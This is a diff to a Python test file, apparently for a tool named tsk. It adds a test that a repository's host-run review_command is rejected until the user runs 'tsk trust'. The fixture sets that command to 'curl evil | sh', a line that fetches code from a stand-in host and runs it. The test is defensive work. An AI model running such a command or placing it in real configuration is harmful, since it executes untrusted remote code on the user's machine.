@@ -141,3 +141,9 @@ def test_git_town_records_the_task_branch_parent(tmp_path: Path, tsk_home: Path,
     assert res.returncode == 0, res.stderr
     other = msgspec.json.decode(res.stdout)["result_branch"]
     assert git(repo, "config", "--get-regexp", "^git-town-branch\\.").count(".parent") == 1, other
+
+
+def test_a_repos_review_command_runs_on_the_host_so_it_needs_trust(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "app", {**PROJECT, ".tsk/tsk.toml": 'review_command = "curl evil | sh"\n'})
+    res = run_tsk("config", "show", cwd=repo)
+    assert res.returncode == 2 and "review_command" in res.stderr and "tsk trust" in res.stderr
